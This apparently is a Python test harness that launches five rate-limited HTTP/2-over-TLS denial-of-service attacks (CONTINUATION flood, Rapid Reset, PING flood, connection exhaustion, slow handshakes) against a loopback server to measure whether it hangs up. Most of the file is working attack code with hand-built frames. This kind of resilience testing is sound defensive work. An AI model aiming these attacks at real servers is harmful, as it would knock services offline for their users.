#!/usr/bin/env python3
"""Attackers on HTTP/2 over TLS, bounded in rate, time and number. Only ever against loopback.

attacks.py NAME PORT SECONDS

Ten threads attack from ten addresses, others for each attack: 127.0.1.1 and up, 127.0.2.1 and up. Prints one JSON object: what was sent
and how often the server hung up. Frames are written by hand, because no client library sends these.
"""

import json
import os
import socket
import ssl
import struct
import sys
import threading
import time

NUM_ATTACKERS = 10
CONNECT_TIMEOUT_S = 2
# A machine that attacks others has limits too; so do ten threads that share two cores with the victim.
MAX_CONNECTS_PER_S = 20

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 1, 3, 4, 6, 9
END_STREAM, END_HEADERS = 1, 4
CANCEL = 8


def frame(kind, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def literal(name, value):
    """A header field that is not indexed, without Huffman code (RFC 7541, 6.2.2)."""
    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value


CALL = (literal(b":method", b"POST") + literal(b":scheme", b"https")
        + literal(b":path", b"/moelight.v1.BatchJobService/ListBatchJobs")
        + literal(b":authority", b"localhost") + literal(b"content-type", b"application/grpc")
        + literal(b"te", b"trailers"))


class Attacker(threading.Thread):
    """One source address. `attack` is called again and again until the time is over."""

    def __init__(self, index, port, end):
        super().__init__()
        # Not those of the attack before, which HAProxy may still refuse.
        self.source = "127.0.%d.%d" % (1 + list(ATTACKS.values()).index(type(self)), 1 + index)
        self.index = index
        self.port = port
        self.end = end
        self.counts = {"connections": 0, "hung_up": 0, "sent": 0}

    def run(self):
        while time.monotonic() < self.end:
            begin = time.monotonic()
            try:
                self.attack()
            except (OSError, ssl.SSLError):
                self.counts["hung_up"] += 1
            time.sleep(max(0.0, begin + 1 / MAX_CONNECTS_PER_S - time.monotonic()))

    def connect(self):
        raw = socket.create_connection(("127.0.0.1", self.port), CONNECT_TIMEOUT_S,
                                       source_address=(self.source, 0))
        self.counts["connections"] += 1
        return raw

    def connect_http2(self):
        context = ssl.create_default_context()
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE
        context.set_alpn_protocols(["h2"])
        tls = context.wrap_socket(self.connect())
        tls.sendall(PREFACE + frame(SETTINGS, 0, 0, b""))
        return tls

    def paced(self, tls, make_batch, batches_per_s, drain=True):
        """Sends a batch at a time, at most so many a second, until the server hangs up."""
        while time.monotonic() < self.end:
            begin = time.monotonic()
            num_sent, data = make_batch()
            tls.sendall(data)
            self.counts["sent"] += num_sent
            if drain:
                discard(tls)
            time.sleep(max(0.0, begin + 1 / batches_per_s - time.monotonic()))


def discard(tls):
    """Reads what lies there, so that the server is never held up by us."""
    tls.setblocking(False)
    try:
        while tls.recv(65536):
            pass
        raise ConnectionError("the server closed the connection")
    except ssl.SSLWantReadError:
        tls.settimeout(CONNECT_TIMEOUT_S)


class HeaderFlood(Attacker):
    """A block of headers that never ends: CONTINUATION after CONTINUATION."""

    def attack(self):
        with self.connect_http2() as tls:
            tls.sendall(frame(HEADERS, END_STREAM, 1, CALL))
            piece = literal(b"x-flood", b"a" * 100) * 140
            self.paced(tls, lambda: (10, frame(CONTINUATION, 0, 1, piece) * 10), 20)


class RapidReset(Attacker):
    """Opens calls and cancels each at once: no limit of calls at the same time is ever reached."""

    def attack(self):
        with self.connect_http2() as tls:
            streams = iter(range(1, 1 << 31, 2))

            def batch():
                data = b""
                for _ in range(100):
                    stream = next(streams)
                    data += frame(HEADERS, END_STREAM | END_HEADERS, stream, CALL)
                    data += frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL))
                return 100, data
            self.paced(tls, batch, 20)


class PingFlood(Attacker):
    """Wants answers to thousands of pings; every second attacker does not even read them."""

    def attack(self):
        with self.connect_http2() as tls:
            batch = frame(PING, 0, 0, b"12345678") * 200
            self.paced(tls, lambda: (200, batch), 20, drain=self.index % 2 == 0)


class DescriptorExhaustion(Attacker):
    """Opens as many connections as it is let, and keeps them."""

    def attack(self):
        held = []
        try:
            while time.monotonic() < self.end:
                if len(held) < 400:
                    held.append(self.connect())
                    self.counts["sent"] += 1
                    time.sleep(0.005)
                    continue
                time.sleep(0.1)
        finally:
            for connection in held:
                connection.close()


class SlowHandshake(Attacker):
    """Many handshakes, a byte at a time; every second attacker is slow in HTTP/2 instead of TLS."""

    def attack(self):
        connections = []
        hello = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"\0" * 500
        try:
            for _ in range(30):
                if self.index % 2 == 0:
                    connections.append((self.connect(), hello))
                else:
                    connections.append((self.start_http2_slowly(), PREFACE))
            for position in range(10**6):
                if time.monotonic() > self.end:
                    return
                for connection, text in connections:
                    connection.send(text[position % len(text):][:1])
                    self.counts["sent"] += 1
                time.sleep(0.2)
        finally:
            for connection, _ in connections:
                connection.close()

    def start_http2_slowly(self):
        context = ssl.create_default_context()
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE
        context.set_alpn_protocols(["h2"])
        return context.wrap_socket(self.connect())


ATTACKS = {
    "header_flood": HeaderFlood,
    "rapid_reset": RapidReset,
    "descriptor_exhaustion": DescriptorExhaustion,
    "ping_flood": PingFlood,
    "slow_handshake": SlowHandshake,
}


def main():
    # The victim's processor time is what is measured. An attacker's would be elsewhere.
    os.nice(19)
    name, port, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
    end = time.monotonic() + seconds
    attackers = [ATTACKS[name](index, port, end) for index in range(NUM_ATTACKERS)]
    for attacker in attackers:
        attacker.start()
    for attacker in attackers:
        attacker.join()
    total = {key: sum(attacker.counts[key] for attacker in attackers)
             for key in ("connections", "hung_up", "sent")}
    print(json.dumps(total))


if __name__ == "__main__":
    main()
